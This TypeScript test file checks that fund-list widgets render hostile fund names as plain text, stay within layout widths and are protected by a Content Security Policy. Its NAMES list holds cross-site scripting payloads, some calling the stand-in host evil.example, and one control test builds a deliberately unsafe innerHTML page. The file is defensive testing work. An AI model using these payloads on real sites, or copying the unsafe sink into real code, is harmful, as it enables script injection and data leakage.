// Names and texts that are made to be more than text.

import assert from "node:assert/strict";
import { test } from "node:test";
import { browser, type Fixture, fixture, Stage } from "./stage";
import { SUBJECTS } from "./subjects";
import { stages } from "./with-stage";

const onStage = stages();

const NAMES = [
  `<img src="https://evil.example/x.png" onerror="alert(1)">`,
  `"><script>fetch("https://evil.example/");alert(1)</script>`,
  `</script><svg onload="alert(1)"><style>@import url(https://evil.example/x.css)</style>`,
  "<iframe src='javascript:alert(1)'></iframe><a href='javascript:alert(1)'>x</a>",
  "صندوق التقاعد \u202Egnp.exe المتداول \u2067RMF\u2069",
  "x".repeat(300),
  "กองทุนรวมเพื่อการเลี้ยงชีพ".repeat(12),
  "👩‍👩‍👧‍👦🏴‍☠️".repeat(20),
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template for those who evaluate texts
  "${alert(1)}{{constructor.constructor('alert(1)')()}}\u0000\u2028",
  "__proto__",
];

function poisoned({ arguments: args, result }: Fixture, name: string): Pick<Fixture, "arguments" | "result"> {
  const replace = (value: unknown, key = ""): unknown => {
    if (Array.isArray(value)) return value.map((item) => replace(item));
    if (typeof value === "object" && value !== null) {
      return Object.fromEntries(Object.entries(value).map(([key, item]) => [key, replace(item, key)]));
    }
    return typeof value === "string" && key !== "type" ? name : value;
  };
  return { arguments: args, result: replace(result) as Fixture["result"] };
}

/** What is in the page beside what the widget puts there itself. */
const strangers = (stage: Stage) =>
  stage.frame.evaluate(() => {
    const found = document.querySelectorAll(
      "img, iframe, object, embed, link, script, style, [onerror], [onload]",
    );
    return [...found].filter((element) => !document.head.contains(element)).map((element) => element.tagName);
  });

/** Those that differ in where they put a text. */
const PLACES = SUBJECTS.filter(
  ([, subject]) =>
    !["funds-page-1", "search-empty", "detail-gold", "history-none", "comparison-3"].includes(subject),
);

for (const [widget, subject] of PLACES) {
  test(`hostile texts stay texts, and break no layout: ${subject}`, () =>
    onStage(widget, {}, async (stage) => {
      for (const name of NAMES) {
        await stage.show(poisoned(fixture(subject), name));
        // The one script of the page is our own, at the end of its body.
        assert.deepEqual(await strangers(stage), ["SCRIPT"], name);
        assert.equal(await stage.frame.locator('a[href^="javascript" i]').count(), 0);
        const text = await stage.frame.locator("main").textContent();
        assert.ok(text?.includes(name), name);
        for (const width of [320, 800]) {
          assert.ok((await stage.overflow(width)) <= 0, `too wide at ${width}: ${name}`);
        }
      }
    }));
}

test("a hostile symbol opens the fund of just that symbol, and is found again", () => {
  const name = `"] , ${NAMES[0]}`;
  const answer = async () => fixture("detail-abapac").result;
  return onStage("fund-list", { answer }, async (stage) => {
    await stage.show(poisoned(fixture("funds-page-1"), name));
    await stage.click(stage.frame.locator("button.link").first());
    await stage.click(stage.frame.getByRole("button", { name: "Back to the list" }));
    assert.deepEqual(await stage.heard("call"), [{ name: "get_rmf_fund_detail", args: { fundCode: name } }]);
    assert.equal(await stage.frame.evaluate(() => document.activeElement?.getAttribute("data-symbol")), name);
  });
});

test("the tests would see a script that runs and a request that leaves", async () => {
  const careless = `<body><script>
    const say = (message) => parent.postMessage({ jsonrpc: "2.0", ...message }, "*");
    const params = { appInfo: { name: "x", version: "1" }, appCapabilities: {}, protocolVersion: "2026-01-26" };
    say({ id: 1, method: "ui/initialize", params });
    say({ method: "ui/notifications/initialized", params: {} });
    addEventListener("message", ({ data }) => {
      if (data.method !== "ui/notifications/tool-result") return;
      document.body.innerHTML = data.params.structuredContent.name;
    });
  </script>`;
  const running = await browser();
  const stage = await Stage.open(running);
  await stage.place({ html: careless });
  const result = { content: [], structuredContent: { name: NAMES[0] } };
  await stage.page.evaluate((result) => window.host.result(result), result);
  await stage.page.waitForTimeout(500);
  await running.close();
  assert.deepEqual(stage.left, ["https://evil.example/x.png"]);
  assert.ok(
    stage.troubles.some((trouble) => /alert/.test(trouble)),
    stage.troubles.join("\n"),
  );
});

test("the page's own policy stops a script and a request that were put into it", () =>
  onStage("fund-card", {}, async (stage) => {
    await stage.show(fixture("detail-abapac"));
    await stage.frame.evaluate(() => {
      const script = document.createElement("script");
      script.textContent = "document.title = 'ran'";
      const image = document.createElement("img");
      image.src = "https://evil.example/x.png";
      document.body.append(script, image);
    });
    await stage.page.waitForTimeout(200);
    assert.notEqual(await stage.frame.title(), "ran");
    assert.equal(stage.troubles.length, 2);
    for (const trouble of stage.troubles.splice(0)) assert.match(trouble, /Content Security Policy/);
    assert.deepEqual(stage.left, []);
    stage.requests.length = 0;
  }));
